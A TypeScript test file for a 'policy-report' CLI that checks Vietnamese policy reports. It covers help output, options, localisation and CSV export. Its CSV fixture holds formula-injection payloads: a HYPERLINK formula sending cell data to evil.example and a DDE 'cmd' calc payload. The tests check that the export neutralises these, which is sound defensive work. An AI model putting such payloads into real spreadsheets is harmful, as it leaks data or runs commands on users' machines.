/**
 * The CLI's manners (the built bin): `--help`/`-h` on every command, short options equal to the long
 * ones, paths with no report an error unless `--allow-empty`, the summary line in the chosen
 * language; and `figures --format csv` as a spreadsheet will open it: formula-leading text cells
 * neutralised (OWASP), a UTF-8 BOM unless `--no-bom`, 1-based line and character, the `multiplier`
 * and `decimals` columns.
 */
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { parse } from 'csv-parse/sync';
import { csvCell, FIGURE_CSV_COLUMNS } from '../../server/src/cli';
import { repoRoot, HANG_MS } from '../helpers';

const bin = path.join(repoRoot, 'bin', 'policy-report.js');

function run(args: string[], cwd = repoRoot, env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, [bin, ...args], { cwd, encoding: 'utf8', env: { ...process.env, LANG: 'C', LC_ALL: '', ...env }, timeout: HANG_MS });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

const FRONT = '---\nsession: 9\ndate: 2024-07-10\nperiod: 2024-S1\ntitle: Phiên họp thứ 9\n---\n\n## Kết quả đạt được\n\n';

describe('CLI manners', function () {
  let dir: string;
  beforeEach(() => (dir = mkdtempSync(path.join(tmpdir(), 'policy-report-manners-'))));
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('--help and -h on every command: that command\'s usage with its short options, exit 0', () => {
    const shorts: Record<string, string[]> = { check: ['-f', '-l', '-c'], figures: ['-f', '-c'], markup: ['-w', '-r', '-m'], export: ['-o'], lsp: [] };
    for (const [cmd, opts] of Object.entries(shorts)) {
      for (const flag of ['--help', '-h']) {
        // After other arguments too, even ones that would be wrong.
        for (const args of [[cmd, flag], [cmd, 'whatever', flag]]) {
          const r = run(args);
          assert.equal(r.status, 0, `${args.join(' ')}: ${r.stderr}`);
          assert.match(r.stdout, new RegExp(`^Usage: policy-report ${cmd}\\b`), args.join(' '));
          assert.match(r.stdout, /-h, --help/);
          for (const o of opts) assert.match(r.stdout, new RegExp(`\\n  ${o}, --`), `${cmd} lists ${o}`);
          assert.equal(r.stderr, '');
        }
      }
    }
    const top = run(['--help']);
    assert.equal(top.status, 0);
    for (const cmd of Object.keys(shorts)) assert.match(top.stdout, new RegExp(`policy-report ${cmd}\\b`));
    // A bad option: exit 2, the command's own usage on stderr.
    const bad = run(['figures', '--frobnicate']);
    assert.equal(bad.status, 2);
    assert.match(bad.stderr, /unknown option --frobnicate[\s\S]*Usage: policy-report figures/);
  });

  it('a broken or too deeply nested team snippet file is a catalog-error in check, as in the editor', () => {
    mkdirSync(path.join(dir, '.policy-report', 'snippets'), { recursive: true });
    writeFileSync(path.join(dir, '.policy-report', 'snippets', 'broken.json'), '{ "a": { "prefix": "x", "body": [ }');
    writeFileSync(path.join(dir, '.policy-report', 'snippets', 'deep.json'), '['.repeat(5000));
    writeFileSync(path.join(dir, 'a.report.md'), FRONT + 'Văn bản.\n');
    const r = run(['check', '.', '-f', 'json'], dir);
    const findings = JSON.parse(r.stdout) as Array<{ file: string; code: string; message: string }>;
    const on = (f: string) => findings.filter((x) => x.file === f && x.code === 'catalog-error');
    assert.ok(on('.policy-report/snippets/broken.json').length > 0, r.stdout);
    assert.ok(on('.policy-report/snippets/deep.json').length > 0, r.stdout);
    assert.equal(r.status, 1);
  });

  it('short options do what the long ones do', () => {
    const file = 'examples/du-thao-phien-10.report.md';
    const long = run(['check', file, '--format', 'json', '--lang', 'en']);
    const short = run(['check', file, '-f', 'json', '-l', 'en']);
    assert.equal(short.status, 1);
    assert.equal(short.stdout, long.stdout);
    assert.equal(run(['figures', file, '-f', 'csv']).stdout, run(['figures', file, '--format=csv']).stdout);
    assert.equal(run(['check', file, '-c', 'no/such.yaml']).status, 2);
    const marked = run(['markup', file, '-m', 'canonical', '-r', 'json']);
    assert.equal(marked.stdout, run(['markup', file, '--mode', 'canonical', '--report', 'json']).stdout);
    assert.equal(run(['check', file, '-f', 'xml']).status, 2);
  });

  it('paths with no report: exit 2 with a clear message; --allow-empty: exit 0 and an empty result', () => {
    mkdirSync(path.join(dir, 'empty'));
    writeFileSync(path.join(dir, 'empty', 'notes.md'), '# not a report\n');
    for (const cmd of ['check', 'figures']) {
      const r = run([cmd, 'empty'], dir);
      assert.equal(r.status, 2, cmd);
      assert.match(r.stderr, /no \*\.report\.md in empty \(add --allow-empty if that is expected\)/);
      assert.equal(r.stdout, '');
    }
    const check = run(['check', 'empty', '--allow-empty'], dir);
    assert.equal(check.status, 0, check.stderr);
    assert.match(check.stdout, /^\nChecked 0 files: 0 errors/);
    assert.deepEqual(JSON.parse(run(['check', 'empty', '--allow-empty', '-f', 'json'], dir).stdout), []);
    assert.deepEqual(JSON.parse(run(['figures', 'empty', '--allow-empty'], dir).stdout), []);
    // No path at all: the working folder, the same rule.
    assert.equal(run(['check'], path.join(dir, 'empty')).status, 2);
  });

  it('the summary line in the chosen language: --lang, else config.yaml, else the locale', () => {
    writeFileSync(path.join(dir, 'a.report.md'), FRONT + '[[Tỷ lệ hồ sơ trực tuyến toàn trình]] cả nước đạt 42%.\n');
    const vi = /\nĐã kiểm tra 1 tệp: 0 lỗi, \d+ cảnh báo, 0 thông tin, 0 gợi ý\.\n$/;
    const en = /\nChecked 1 file: 0 errors, \d+ warnings?, 0 information, 0 hints\.\n$/;
    assert.match(run(['check', '.', '--lang', 'vi'], dir).stdout, vi);
    assert.match(run(['check', '.', '-l', 'en'], dir, { LANG: 'vi_VN.UTF-8' }).stdout, en);
    assert.match(run(['check', '.'], dir, { LANG: 'vi_VN.UTF-8' }).stdout, vi);
    assert.match(run(['check', '.'], dir, { LANG: 'en_US.UTF-8' }).stdout, en);
    mkdirSync(path.join(dir, '.policy-report'));
    writeFileSync(path.join(dir, '.policy-report', 'config.yaml'), 'language: en\n');
    assert.match(run(['check', '.'], dir, { LANG: 'vi_VN.UTF-8' }).stdout, en);
    assert.match(run(['check', '.', '-l', 'vi'], dir).stdout, vi);
  });
});

describe('figures --format csv', function () {
  let dir: string;
  before(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'policy-report-csv-'));
    writeFileSync(
      path.join(dir, 'a.report.md'),
      FRONT +
        '[[=HYPERLINK("http://evil.example/?"&A1)]] đạt 42%.\n\n' +
        '[[+cmd|\' /C calc\'!A0]] đạt 5 doanh nghiệp.\n\n' +
        '[[@SUM(A1:A9)]] đạt 7%.\n\n' +
        '[[-2,5]] giảm 2,5%.\n\n' +
        '[[Tỷ lệ hồ sơ trực tuyến toàn trình]] cả nước đạt 42,5%.\n\n' +
        '[[Doanh thu kinh tế số]] đạt khoảng 53 tỷ USD.\n',
    );
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  const rows = (csv: string): Record<string, string>[] => parse(csv, { columns: true, bom: true }) as Record<string, string>[];

  it('a UTF-8 BOM by default, none with --no-bom; the columns the README lists, multiplier and decimals among them', () => {
    const withBom = run(['figures', '.', '-f', 'csv'], dir);
    assert.equal(withBom.status, 0, withBom.stderr);
    assert.ok(withBom.stdout.startsWith('\uFEFFfile,line,character,'));
    const without = run(['figures', '.', '-f', 'csv', '--no-bom'], dir);
    assert.equal(without.stdout, withBom.stdout.slice(1));
    assert.equal(without.stdout.split('\n')[0], FIGURE_CSV_COLUMNS.join(','));
    assert.deepEqual(FIGURE_CSV_COLUMNS.slice(-4), ['denominator', 'multiplier', 'decimals', 'change']);
  });

  it('line and character are 1-based (the JSON keeps LSP 0-based positions); multiplier and decimals match the JSON', () => {
    const json = JSON.parse(run(['figures', '.'], dir).stdout) as Array<Record<string, unknown> & { range: { start: { line: number; character: number } } }>;
    const csv = rows(run(['figures', '.', '-f', 'csv'], dir).stdout);
    assert.equal(csv.length, json.length);
    assert.equal(csv.length, 6);
    csv.forEach((row, i) => {
      assert.equal(Number(row.line), json[i].range.start.line + 1);
      assert.equal(Number(row.character), json[i].range.start.character + 1);
      assert.equal(row.multiplier, String(json[i].multiplier ?? ''));
      assert.equal(row.decimals, String(json[i].decimals ?? ''));
    });
    // The file's line 10 (1-based) holds the first reference, at its first character.
    assert.deepEqual([csv[0].line, csv[0].character], ['10', '1']);
    const revenue = csv.find((r) => r.indicator === 'digital-economy-revenue')!;
    assert.deepEqual([revenue.value, revenue.multiplier, revenue.decimals], ['53000000000', '1000000000', '0']);
    const rate = csv.find((r) => r.indicator === 'online-e2e-dossier-rate')!;
    assert.deepEqual([rate.value, rate.decimals], ['42.5', '1']);
  });

  it('text cells beginning with = + - @ get a leading \' and quotes; the text is otherwise kept', () => {
    const out = run(['figures', '.', '-f', 'csv'], dir).stdout;
    const names = rows(out).map((r) => r.name);
    assert.deepEqual(names.slice(0, 4), ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'-2,5"]);
    // As written in the file: quoted, so no spreadsheet splits or runs them.
    assert.ok(out.includes(`"'=HYPERLINK(""http://evil.example/?""&A1)"`));
    assert.ok(out.includes(`"'@SUM(A1:A9)"`));
    // No cell of any row begins with a formula character once unquoted.
    for (const row of rows(out)) for (const [k, v] of Object.entries(row)) assert.doesNotMatch(v, /^[=+@\t\r]/, `${k}: ${v}`);
  });

  it('csvCell: every OWASP formula lead neutralised, numbers we computed left as numbers', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']) {
      assert.equal(csvCell(`${lead}1+1`), `"'${lead}1+1"`, JSON.stringify(lead));
    }
    assert.equal(csvCell('-2,5'), `"'-2,5"`);
    assert.equal(csvCell(-2.5), '-2.5');
    assert.equal(csvCell(53e9), '53000000000');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('say "x"'), '"say ""x"""');
    assert.equal(csvCell('dòng\nhai'), '"dòng\nhai"');
    assert.equal(csvCell('Tỷ lệ'), 'Tỷ lệ');
    assert.equal(csvCell(' =1+1'), ' =1+1');
  });
});
